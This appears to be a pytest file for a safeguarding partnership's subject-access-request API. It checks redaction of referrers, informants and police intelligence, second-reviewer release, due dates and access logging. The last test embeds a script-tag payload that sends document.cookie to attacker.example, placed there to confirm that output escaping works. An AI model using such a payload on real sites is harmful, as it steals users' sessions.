"""A parent asks the partnership for everything it holds about their son, referred by his
school: the information governance team opens the request, assembles the package from the
three services (the risk and meetings services faked on a real loopback server:
referral_subject_access_fakes), a second officer reviews it and releases what may be
released. Nobody who gave information about him is named in anything they see or send."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from referral_scenarios import (
    AUDITOR,
    PROBLEM,
    SCHOOL,
    SOCIAL_WORKER,
    bearer,
    child_details,
    screen_and_decide,
    submit,
)
from referral_subject_access_fakes import FakeExtractServices, unused_port_url
from support_scenarios import (
    KEYWORKER,
    POST_ABUSE,
    deliver,
    end,
    offer,
    record_contact,
    risk_assessed,
    start,
)

from referral_api.subject_access.upstream import UpstreamServices
from safeguarding_kit.testing import serving

REQUESTS = "/api/v1/subject-access-requests"
ASSEMBLER = {**AUDITOR, "sub": "ig.officer.one@sheffield.gov.example"}
REVIEWER = {**AUDITOR, "sub": "ig.officer.two@sheffield.gov.example"}
CHURCH = {"agency": "st-examples-church", "agency_type": "voluntary", "roles": ["referrer"]}
OFFICER = {"agency": "south-yorkshire-police", "agency_type": "police", "roles": ["practitioner"]}

REFERRER = {
    "name": "Ms Priya Shah",
    "role": "Designated Safeguarding Lead",
    "phone": "0114 496 0123",
    "email": "priya.shah@hillsborough-academy.example",
}
SUMMARY = (
    "Jordan was seen getting into cars with older males after school, twice with Casey Smith from "
    "Year 11. Ms Shah (0114 4960123) spoke to his mother on Friday."
)
REFERRER_TRACES = ("Priya", "Shah", "priya.shah", "hillsborough-academy.example", "496 0123", "4960123")
INFORMATION = "Seen at midnight outside the London Road takeaway with adults who drive him away."


@pytest.fixture
def upstream(app: Any) -> Iterator[FakeExtractServices]:
    """The risk and meetings services faked on a loopback server, for this test only."""
    fakes = FakeExtractServices()
    with serving(fakes.handler()) as url, httpx.Client(timeout=5.0) as client:
        app.state.subject_access_upstream = UpstreamServices(client, risk_url=url, meetings_url=url)
        yield fakes


def headers(tokens: Any, who: dict[str, Any], etag: str | None = None) -> dict[str, str]:
    return {**bearer(tokens, who), **({"If-Match": etag} if etag else {})}


def a_child_referred_by_a_school(client: Any, tokens: Any) -> str:
    """Jordan, referred by his school's safeguarding lead; Casey, another pupil, is known to
    the hub too; a church youth worker passed information about Jordan."""
    client.post(
        "/api/v1/children",
        json=child_details(given_name="Casey", family_name="Smith", date_of_birth="2010-05-02"),
        headers=bearer(tokens, SOCIAL_WORKER),
    )
    referral = submit(client, tokens, SCHOOL, referrer=REFERRER, summary=SUMMARY)
    informed = client.post(
        "/api/v1/third-party-information",
        json={
            "informant": {
                "name": "Alex Helper",
                "role": "Youth pastor",
                "organisation": "St Example's Church",
                "contact": "alex.helper@st-examples.example",
            },
            "child": {"given_name": "Jordan", "family_name": "Example", "date_of_birth": "2011-03-14"},
            "information": INFORMATION,
            "concern_types": ["criminal_exploitation"],
            "lawful_basis": {
                "basis": "safeguarding_without_consent",
                "reason": "Telling the family may alert the adults.",
            },
        },
        headers=bearer(tokens, CHURCH),
    )
    assert informed.status_code == 202, informed.text
    return str(referral["child_id"])


def open_request(client: Any, tokens: Any, subject_id: str, **overrides: Any) -> Any:
    body = {
        "subject_type": "child",
        "subject_id": subject_id,
        "reference": "IG-SAR-2026-0113",
        "received_on": "2026-12-01",
        "requester_relationship": "parent_or_carer",
        "identity_verified": True,
        **overrides,
    }
    response = client.post(REQUESTS, json=body, headers=bearer(tokens, ASSEMBLER))
    assert response.status_code == 201, response.text
    return response


def assembled(client: Any, tokens: Any, request_id: str) -> Any:
    response = client.post(f"{REQUESTS}/{request_id}/package", headers=bearer(tokens, ASSEMBLER))
    assert response.status_code == 200, response.text
    return response


def decide(client: Any, tokens: Any, package: Any, who: dict[str, Any] = REVIEWER, **body: Any) -> Any:
    request_id = package.json()["request_id"]
    return client.post(
        f"{REQUESTS}/{request_id}/decision",
        json=body,
        headers=headers(tokens, who, package.headers["etag"]),
    )


def disclose_all(package: Any, **withheld: str) -> list[dict[str, str]]:
    return [
        {"item_id": item_id, "decision": withheld.get(item_id, "disclose")}
        for item_id in package.json()["decisions_required"]
    ]


def item(package: dict[str, Any], kind: str) -> dict[str, Any]:
    return next(i for i in package["items"] if i["kind"] == kind)


def value(found: dict[str, Any], label: str) -> str | None:
    return next(f["value"] for f in found["fields"] if f["label"] == label)


def released_without(client: Any, tokens: Any, package: Any, request_id: str, intelligence_id: str) -> str:
    """The released document, after a reviewer's try to disclose the intelligence item too
    was refused (422 on its decision): no decision can release police intelligence."""
    disclosed = decide(
        client,
        tokens,
        package,
        outcome="release",
        reasons="Sending it all.",
        items=[*disclose_all(package), {"item_id": intelligence_id, "decision": "disclose"}],
    )
    assert disclosed.status_code == 422
    assert disclosed.json()["errors"][0]["pointer"].endswith("/decision")
    released = decide(
        client, tokens, package, outcome="release", reasons="Sending it.", items=disclose_all(package)
    )
    assert released.status_code == 200, released.text
    document: str = client.get(f"{REQUESTS}/{request_id}/release.html", headers=bearer(tokens, REVIEWER)).text
    return document


def test_a_package_for_a_child_referred_by_a_school_holds_their_records_and_no_referrers_name(
    client, tokens, upstream
):
    child_id = a_child_referred_by_a_school(client, tokens)
    upstream.assessed(child_id, evidence="Seen with Casey Smith at the takeaway; Ms Shah told the police.")
    upstream.discussed(
        child_id, minutes="School (Priya Shah, priya.shah@hillsborough-academy.example) attended."
    )
    request_id = open_request(client, tokens, child_id).json()["id"]

    package = assembled(client, tokens, request_id)
    body = package.json()
    assert body["status"] == "ready_for_review"
    record = item(body, "child_record")
    assert (value(record, "Given name"), value(record, "Family name")) == ("Jordan", "Example")
    assert value(record, "Date of birth") == "14 March 2011"
    referral = item(body, "referral")
    assert value(referral, "Referring agency") == "Sheffield Schools Safeguarding Service"
    assert value(referral, "Referrer") == value(referral, "Referrer's email") == "[redacted: referrer]"
    summary = value(referral, "What was seen or heard")
    assert summary is not None
    assert "older males after school" in summary
    assert "[redacted: another child]" in summary
    assert "Casey" not in summary
    assert {i["source"] for i in body["items"]} == {"referral-service", "risk-service", "meetings-service"}
    assert body["redactions"]["referrer"] >= 4
    # The other services were asked with the officer's own token.
    assert upstream.bearer_tokens() == {bearer(tokens, ASSEMBLER)["Authorization"].removeprefix("Bearer ")}

    document = client.get(f"{REQUESTS}/{request_id}/package.html", headers=bearer(tokens, REVIEWER))
    assert document.status_code == 200
    assert document.headers["content-type"].startswith("text/html")
    assert "script-src" not in document.headers["content-security-policy"]
    assert "Jordan" in document.text
    assert "[redacted: referrer]" in document.text

    decided = decide(
        client, tokens, package, outcome="release", reasons="Identity checked.", items=disclose_all(package)
    )
    assert decided.status_code == 200, decided.text
    released = client.get(f"{REQUESTS}/{request_id}/release.html", headers=bearer(tokens, REVIEWER))
    assert released.status_code == 200
    assert "Example" in released.text
    assert "older males after school" in released.text

    for text in (package.text, document.text, released.text):
        for trace in (*REFERRER_TRACES, "Casey Smith", "Alex Helper", "alex.helper", "St Example"):
            assert trace not in text, trace


def test_the_referrals_history_and_decision_are_in_the_package_with_staff_shown_by_agency(
    client, tokens, upstream
):
    casey = child_details(given_name="Casey", family_name="Smith", date_of_birth="2010-05-02")
    client.post("/api/v1/children", json=casey, headers=bearer(tokens, SOCIAL_WORKER))
    referral = submit(client, tokens, SCHOOL, referrer=REFERRER, summary=SUMMARY)
    screen_and_decide(
        client, tokens, referral, "allocated", reason="Meets threshold: Casey Smith named too, see police."
    )
    request_id = open_request(client, tokens, referral["child_id"]).json()["id"]
    package = assembled(client, tokens, request_id)
    steps = [i for i in package.json()["items"] if i["kind"] == "referral_step"]
    assert [value(step, "To") for step in steps] == ["received", "screening", "allocated"]
    assert value(steps[0], "By") == "[redacted: referrer]"  # sending it
    allocated = steps[-1]
    assert value(allocated, "By agency") == "Sheffield MASH: Children's Social Care"
    assert value(allocated, "By") == "[redacted: staff member]"
    assert value(allocated, "Reason") == "Meets threshold: [redacted: another child] named too, see police."
    assert {f["kind"] for f in allocated["flags"]} == {"other_people_named", "free_text"}
    assert allocated["decision_required"] is True
    decided = item(package.json(), "referral")
    assert (value(decided, "Status"), value(decided, "Allocated to team")) == (
        "allocated",
        "Exploitation Team North",
    )
    assert value(decided, "Allocated worker") == "[redacted: staff member]"
    for trace in ("worker-4411", "manager@hub", "worker@sheffield-social-care"):
        assert trace not in package.text


def test_the_informants_account_is_flagged_and_a_withheld_item_is_absent_from_the_release(
    client, tokens, upstream
):
    child_id = a_child_referred_by_a_school(client, tokens)
    request_id = open_request(client, tokens, child_id).json()["id"]
    package = assembled(client, tokens, request_id)
    information = item(package.json(), "third_party_information")
    assert information["decision_required"] is True
    assert information["flags"][0]["kind"] == "serious_harm"
    assert value(information, "Information giver") == "[redacted: information giver]"
    assert value(information, "Sent by agency") == "[redacted: information giver]"
    assert value(information, "Information") == INFORMATION  # for the reviewer to judge

    decisions = disclose_all(package, **{information["id"]: "withhold"})
    decided = decide(
        client, tokens, package, outcome="release", reasons="Informant account withheld.", items=decisions
    )
    assert decided.status_code == 200, decided.text
    released = client.get(f"{REQUESTS}/{request_id}/release.html", headers=bearer(tokens, REVIEWER)).text
    assert "London Road takeaway" not in released
    assert "Information from a third party" not in released
    assert "older males after school" in released  # the rest is released


def test_nothing_is_released_before_a_reviewers_decision_and_nothing_when_withheld(client, tokens, upstream):
    child_id = a_child_referred_by_a_school(client, tokens)
    request_id = open_request(client, tokens, child_id).json()["id"]
    release = f"{REQUESTS}/{request_id}/release.html"
    before_package = client.get(release, headers=bearer(tokens, REVIEWER))
    assert before_package.status_code == 409
    assert before_package.headers["content-type"] == PROBLEM
    assert client.get(f"{REQUESTS}/{request_id}/package", headers=bearer(tokens, REVIEWER)).status_code == 409

    package = assembled(client, tokens, request_id)
    refused = client.get(release, headers=bearer(tokens, REVIEWER))
    assert refused.status_code == 409
    assert refused.json()["type"].endswith("subject-access-not-released")

    withheld = decide(
        client, tokens, package, outcome="withhold", reasons="Third-party exemption applies throughout."
    )
    assert withheld.status_code == 200, withheld.text
    assert withheld.json()["status"] == "withheld"
    assert client.get(release, headers=bearer(tokens, REVIEWER)).status_code == 409
    again = client.post(f"{REQUESTS}/{request_id}/package", headers=bearer(tokens, ASSEMBLER))
    assert again.status_code == 409  # the package stays as it was reviewed


def test_a_release_needs_a_decision_on_every_flagged_item_and_another_reviewer(client, tokens, upstream):
    child_id = a_child_referred_by_a_school(client, tokens)
    request_id = open_request(client, tokens, child_id).json()["id"]
    package = assembled(client, tokens, request_id)

    own = decide(
        client,
        tokens,
        package,
        who=ASSEMBLER,
        outcome="release",
        reasons="All fine to send.",
        items=disclose_all(package),
    )
    assert own.status_code == 403
    assert own.json()["type"].endswith("subject-access-review-by-another-person")

    missing = decide(client, tokens, package, outcome="release", reasons="All fine to send.")
    assert missing.status_code == 422
    assert missing.json()["errors"][0]["pointer"] == "#/items"

    unknown = decide(
        client,
        tokens,
        package,
        outcome="release",
        reasons="All fine to send.",
        items=[*disclose_all(package), {"item_id": "referral:nothing", "decision": "disclose"}],
    )
    assert unknown.status_code == 422
    assert unknown.json()["errors"][0]["pointer"].endswith("/item_id")

    stale = client.post(
        f"{REQUESTS}/{request_id}/decision",
        json={"outcome": "withhold", "reasons": "Exemption applies."},
        headers=headers(tokens, REVIEWER, '"1"'),
    )
    assert stale.status_code == 412
    assert client.get(f"{REQUESTS}/{request_id}", headers=bearer(tokens, REVIEWER)).json()["status"] == (
        "ready_for_review"
    )


def test_nothing_is_released_to_a_requester_whose_identity_was_not_verified(client, tokens, upstream):
    child_id = a_child_referred_by_a_school(client, tokens)
    request_id = open_request(client, tokens, child_id, identity_verified=False).json()["id"]
    package = assembled(client, tokens, request_id)
    refused = decide(
        client, tokens, package, outcome="release", reasons="Sending it.", items=disclose_all(package)
    )
    assert refused.status_code == 409
    assert refused.json()["type"].endswith("subject-access-identity-not-verified")


def test_police_intelligence_linked_to_the_child_is_flagged_and_never_released(client, tokens, upstream):
    child_id = a_child_referred_by_a_school(client, tokens)
    person = client.post(
        "/api/v1/persons-of-concern",
        json={"alias": "Shadz", "approximate_age": 24, "description": "Drives a grey hatchback."},
        headers=bearer(tokens, OFFICER),
    ).json()
    client.post(
        f"/api/v1/persons-of-concern/{person['id']}/links",
        json={"child_id": child_id},
        headers=bearer(tokens, OFFICER),
    )
    request_id = open_request(client, tokens, child_id).json()["id"]
    package = assembled(client, tokens, request_id)
    link = item(package.json(), "concern_link")
    assert (link["releasable"], link["decision_required"]) == (False, False)
    assert link["flags"][0]["kind"] == "police_intelligence"
    assert value(link, "Recorded by agency") == "South Yorkshire Police: Child Exploitation Unit"
    assert "Shadz" not in package.text
    assert "hatchback" not in package.text

    document = released_without(client, tokens, package, request_id, link["id"])
    assert "person of concern" not in document


def test_the_childs_support_and_its_contacts_are_in_the_package_and_the_release(client, tokens, upstream):
    child_id = a_child_referred_by_a_school(client, tokens)
    assert deliver(client, risk_assessed(child_id, "high", "2026-10-01T12:00:00+00:00")) == 204
    assert deliver(client, risk_assessed(child_id, "medium", "2026-11-20T12:00:00+00:00")) == 204
    support = offer(client, tokens, child_id, {**POST_ABUSE, "requested_at": "2026-10-01T09:30:00+00:00"})
    assert support.status_code == 201, support.text
    started = start(client, tokens, support.json(), "2026-10-20T15:00:00+00:00", KEYWORKER)
    assert started.status_code == 200, started.text
    for day, setting, engagement in (
        ("2026-11-03", "secure_unit", "engaged"),
        ("2026-11-17", "online", "did_not_attend"),
    ):
        contact = record_contact(
            client,
            tokens,
            started.json(),
            KEYWORKER,
            contacted_on=day,
            setting=setting,
            engagement=engagement,
        )
        assert contact.status_code == 201, contact.text
    ended = end(client, tokens, started.json(), "2026-11-28T16:00:00+00:00", "goals_met", KEYWORKER)
    assert ended.status_code == 200, ended.text
    request_id = open_request(client, tokens, child_id).json()["id"]

    package = assembled(client, tokens, request_id)
    offered = item(package.json(), "support")
    assert offered["title"] == "Support offered: therapeutic post abuse support"
    assert [(f["label"], f["value"]) for f in offered["fields"]] == [
        ("Kind of support", "therapeutic post abuse support"),
        ("Through the service", "Safe Space Sheffield post-abuse service (commissioned)"),
        ("Provided by agency", "Safe Space Sheffield (commissioned post-abuse support)"),
        ("Offered by agency", "Sheffield MASH: Children's Social Care"),
        ("Requested", "1 October 2026, 10:30"),
        ("Started", "20 October 2026, 16:00"),
        ("Days waited", "19"),
        ("Ended", "28 November 2026, 16:00"),
        ("Why it ended", "goals met"),
        ("Risk level at the start", "high"),
        ("Risk level at the end", "medium"),
    ]
    contacts = [i for i in package.json()["items"] if i["kind"] == "support_contact"]
    assert [(value(c, "Day"), value(c, "Kind of place"), value(c, "Engagement")) for c in contacts] == [
        ("3 November 2026", "secure unit", "engaged"),
        ("17 November 2026", "online", "did not attend"),
    ]
    assert {value(c, "Recorded by agency") for c in contacts} == {
        "Safe Space Sheffield (commissioned post-abuse support)"
    }
    assert {value(c, "Support") for c in contacts} == {support.json()["id"]}
    # The child's own data, nothing written by a person: no decision needed, released as it is.
    for found in (offered, *contacts):
        assert (found["releasable"], found["decision_required"], found["flags"]) == (True, False, [])
    assert KEYWORKER["sub"] not in package.text  # a person who recorded anything is never named

    document = client.get(f"{REQUESTS}/{request_id}/package.html", headers=bearer(tokens, REVIEWER)).text
    assert "Support offered: therapeutic post abuse support" in document
    decided = decide(
        client, tokens, package, outcome="release", reasons="Identity checked.", items=disclose_all(package)
    )
    assert decided.status_code == 200, decided.text
    released = client.get(f"{REQUESTS}/{request_id}/release.html", headers=bearer(tokens, REVIEWER)).text
    for shown in (
        "Support offered: therapeutic post abuse support",
        "secure unit",
        "did not attend",
        "goals met",
    ):
        assert shown in released, shown


def test_a_disruption_action_naming_the_child_is_police_intelligence_never_released(client, tokens, upstream):
    child_id = a_child_referred_by_a_school(client, tokens)
    person = client.post(
        "/api/v1/persons-of-concern", json={"alias": "Shadz"}, headers=bearer(tokens, OFFICER)
    ).json()
    action = client.post(
        "/api/v1/disruption/actions",
        json={
            "kind": "child_abduction_warning_notice",
            "person_of_concern_id": person["id"],
            "action_date": "2026-11-14",
            "outcome": "issued",
            "reference": "SYP-CAWN-0042",
            "child_ids": [child_id],
        },
        headers=bearer(tokens, OFFICER),
    )
    assert action.status_code == 201, action.text
    # The police read it again: a read of intelligence about the child, not of the child's record.
    read = client.get(f"/api/v1/disruption/actions/{action.json()['id']}", headers=bearer(tokens, OFFICER))
    assert read.status_code == 200, read.text
    request_id = open_request(client, tokens, child_id).json()["id"]

    package = assembled(client, tokens, request_id)
    [link] = [i for i in package.json()["items"] if i["kind"] == "disruption_link"]
    assert (link["releasable"], link["decision_required"]) == (False, False)
    assert [f["kind"] for f in link["flags"]] == ["police_intelligence"]
    assert value(link, "Action") == "[redacted: police intelligence]"
    assert value(link, "Recorded by agency") == "South Yorkshire Police: Child Exploitation Unit"
    assert value(link, "Recorded by") == "[redacted: staff member]"
    for trace in ("abduction", "SYP-CAWN-0042", "Shadz", person["id"], action.json()["id"]):
        assert trace not in package.text, trace
    access = item(package.json(), "access_log")
    assert not [f for f in access["fields"] if f["label"].startswith("South Yorkshire Police")]

    document = released_without(client, tokens, package, request_id, link["id"])
    assert "disruption" not in document.lower()
    assert "police intelligence" not in document


def test_a_person_of_concerns_package_holds_their_record_and_no_childs_id(client, tokens, upstream):
    child_id = a_child_referred_by_a_school(client, tokens)
    person = client.post(
        "/api/v1/persons-of-concern",
        json={
            "name": "Dean Example",
            "alias": "Shadz",
            "description": "Seen with Jordan Example and Casey Smith.",
        },
        headers=bearer(tokens, OFFICER),
    ).json()
    client.post(
        f"/api/v1/persons-of-concern/{person['id']}/links",
        json={"child_id": child_id},
        headers=bearer(tokens, OFFICER),
    )
    request_id = open_request(
        client, tokens, person["id"], subject_type="person_of_concern", requester_relationship="data_subject"
    ).json()["id"]
    package = assembled(client, tokens, request_id).json()
    record = item(package, "person_record")
    assert (value(record, "Name"), value(record, "Also known as")) == ("Dean Example", "Shadz")
    assert value(record, "Recorded by agency") == "South Yorkshire Police: Child Exploitation Unit"
    note = item(package, "intelligence_note")
    assert note["decision_required"] is True
    assert {f["kind"] for f in note["flags"]} >= {"police_intelligence", "other_people_named"}
    assert value(item(package, "person_link"), "Child") == "[redacted: child]"
    text = json.dumps(package)
    for trace in (child_id, "Jordan", "Casey"):
        assert trace not in text
    assert upstream.requests == []  # the risk and meetings services know children only


def test_the_due_date_is_one_calendar_month_and_an_extension_two_more(client, tokens, upstream):
    child_id = a_child_referred_by_a_school(client, tokens)
    january = open_request(client, tokens, child_id, received_on="2026-01-31").json()
    assert (january["due_on"], january["extended_due_on"]) == ("2026-02-28", None)
    assert january["respond_by"] == "2026-03-02"  # 28 February 2026 is a Saturday
    assert january["overdue"] is True
    leap = open_request(client, tokens, child_id, received_on="2024-01-31").json()
    assert leap["due_on"] == "2024-02-29"

    url = f"{REQUESTS}/{january['id']}/extension"
    reason = {"reason": "Complex: three services and police intelligence to review."}
    assert client.post(url, json=reason, headers=bearer(tokens, ASSEMBLER)).status_code == 428
    extended = client.post(url, json=reason, headers=headers(tokens, ASSEMBLER, f'"{january["version"]}"'))
    assert extended.status_code == 200, extended.text
    assert (extended.json()["due_on"], extended.json()["extended_due_on"]) == ("2026-02-28", "2026-04-30")
    assert extended.json()["respond_by"] == "2026-04-30"
    again = client.post(url, json=reason, headers=headers(tokens, ASSEMBLER, extended.headers["etag"]))
    assert again.status_code == 409
    assert again.json()["type"].endswith("subject-access-already-extended")

    future = client.post(
        REQUESTS,
        json={
            **{k: january[k] for k in ("subject_type", "subject_id", "requester_relationship")},
            "identity_verified": True,
            "received_on": "2099-01-01",
        },
        headers=bearer(tokens, ASSEMBLER),
    )
    assert future.status_code == 422
    assert future.json()["errors"][0]["pointer"] == "#/received_on"


def test_callers_without_the_audits_capacity_are_refused(client, tokens, upstream):
    child_id = a_child_referred_by_a_school(client, tokens)
    request_id = open_request(client, tokens, child_id).json()["id"]
    school_auditor = {"agency": "sheffield-schools", "agency_type": "education", "roles": ["auditor"]}
    hub_manager = {**SOCIAL_WORKER, "roles": ["manager"]}
    for who in (school_auditor, hub_manager, SCHOOL):
        assert (
            client.post(
                REQUESTS,
                json={
                    "subject_type": "child",
                    "subject_id": child_id,
                    "requester_relationship": "data_subject",
                    "identity_verified": True,
                },
                headers=bearer(tokens, who),
            ).status_code
            == 403
        )
        assert client.get(REQUESTS, headers=bearer(tokens, who)).status_code == 403
        assert client.post(f"{REQUESTS}/{request_id}/package", headers=bearer(tokens, who)).status_code == 403
        assert (
            client.get(f"{REQUESTS}/{request_id}/release.html", headers=bearer(tokens, who)).status_code
            == 403
        )
    assert upstream.requests == []


def test_every_step_is_in_the_childs_access_log(client, tokens, upstream):
    child_id = a_child_referred_by_a_school(client, tokens)
    client.get(f"/api/v1/children/{child_id}", headers=bearer(tokens, {**SOCIAL_WORKER, "sub": "jo.worker"}))
    request_id = open_request(client, tokens, child_id).json()["id"]
    package = assembled(client, tokens, request_id)
    client.get(f"{REQUESTS}/{request_id}/package", headers=bearer(tokens, REVIEWER))
    client.get(f"{REQUESTS}/{request_id}/package.html", headers=bearer(tokens, REVIEWER))
    decide(
        client, tokens, package, outcome="release", reasons="Identity checked.", items=disclose_all(package)
    )
    client.get(f"{REQUESTS}/{request_id}/release.html", headers=bearer(tokens, REVIEWER))

    log = client.get(
        f"/api/v1/children/{child_id}/access-log", params={"limit": 100}, headers=bearer(tokens, AUDITOR)
    )
    steps = [
        (e["action"], e["actor_sub"], e["detail"])
        for e in reversed(log.json()["items"])
        if e["resource_type"] == "subject_access_request" and e["resource_id"] == request_id
    ]
    assert [action for action, _, _ in steps] == [
        "open",
        "assemble",
        "read_package",
        "read_package",
        "decide",
        "release",
    ]
    assert steps[0][1] == steps[1][1] == ASSEMBLER["sub"]
    assert steps[4][1] == REVIEWER["sub"]
    assert steps[4][2].startswith("release")
    # The package lists who the record was shown to, by agency and role only: the school sent
    # the referral, and was shown nothing.
    access = item(package.json(), "access_log")
    assert [(f["label"], f["value"][:6]) for f in access["fields"]] == [
        ("Sheffield MASH: Children's Social Care (social care), practitioner", "1 time")
    ]
    assert "jo.worker" not in package.text


def test_when_the_risk_service_is_down_the_answer_is_503_and_no_package_is_stored(
    client, tokens, app, upstream
):
    child_id = a_child_referred_by_a_school(client, tokens)
    request_id = open_request(client, tokens, child_id).json()["id"]
    running = app.state.subject_access_upstream
    app.state.subject_access_upstream = UpstreamServices(
        running.client, risk_url=unused_port_url(), meetings_url=running.meetings_url
    )
    down = client.post(f"{REQUESTS}/{request_id}/package", headers=bearer(tokens, ASSEMBLER))
    assert down.status_code == 503
    assert down.headers["content-type"] == PROBLEM
    assert down.json()["type"].endswith("subject-access-source-unavailable")
    assert "risk service" in down.json()["detail"]

    assert client.get(f"{REQUESTS}/{request_id}/package", headers=bearer(tokens, REVIEWER)).status_code == 409
    request = client.get(f"{REQUESTS}/{request_id}", headers=bearer(tokens, REVIEWER)).json()
    assert (request["status"], request["package_assembled_at"]) == ("open", None)

    upstream.failing.add("meetings")
    app.state.subject_access_upstream = running
    failing = client.post(f"{REQUESTS}/{request_id}/package", headers=bearer(tokens, ASSEMBLER))
    assert failing.status_code == 503
    assert client.get(f"{REQUESTS}/{request_id}", headers=bearer(tokens, REVIEWER)).json()["status"] == "open"


def test_a_retried_open_with_the_same_idempotency_key_returns_the_first_request(client, tokens, upstream):
    child_id = a_child_referred_by_a_school(client, tokens)
    body = {
        "subject_type": "child",
        "subject_id": child_id,
        "requester_relationship": "data_subject",
        "identity_verified": True,
    }
    sent = {**bearer(tokens, ASSEMBLER), "Idempotency-Key": "sar-2026-0113"}
    first = client.post(REQUESTS, json=body, headers=sent)
    retried = client.post(REQUESTS, json=body, headers=sent)
    assert first.status_code == retried.status_code == 201
    assert first.json() == retried.json()
    assert retried.headers["location"] == f"{REQUESTS}/{first.json()['id']}"
    listed = client.get(REQUESTS, params={"subject_id": child_id}, headers=bearer(tokens, REVIEWER)).json()
    assert [r["id"] for r in listed["items"]] == [first.json()["id"]]


def test_a_request_about_someone_not_held_here_is_refused(client, tokens, upstream):
    response = client.post(
        REQUESTS,
        json={
            "subject_type": "child",
            "subject_id": "00000000-0000-4000-8000-000000000000",
            "requester_relationship": "data_subject",
            "identity_verified": True,
        },
        headers=bearer(tokens, ASSEMBLER),
    )
    assert response.status_code == 422
    assert response.json()["errors"][0]["pointer"] == "#/subject_id"


def test_markup_written_into_a_record_is_shown_as_text_in_the_documents(client, tokens, upstream):
    summary = 'Seen near the park. <script>fetch("https://attacker.example/?c="+document.cookie)</script>'
    referral = submit(client, tokens, SCHOOL, referrer=REFERRER, summary=summary)
    request_id = open_request(client, tokens, referral["child_id"]).json()["id"]
    package = assembled(client, tokens, request_id)
    document = client.get(f"{REQUESTS}/{request_id}/package.html", headers=bearer(tokens, REVIEWER)).text
    decide(
        client, tokens, package, outcome="release", reasons="Identity checked.", items=disclose_all(package)
    )
    released = client.get(f"{REQUESTS}/{request_id}/release.html", headers=bearer(tokens, REVIEWER)).text
    for text in (document, released):
        assert "<script>" not in text
        assert "&lt;script&gt;fetch(" in text
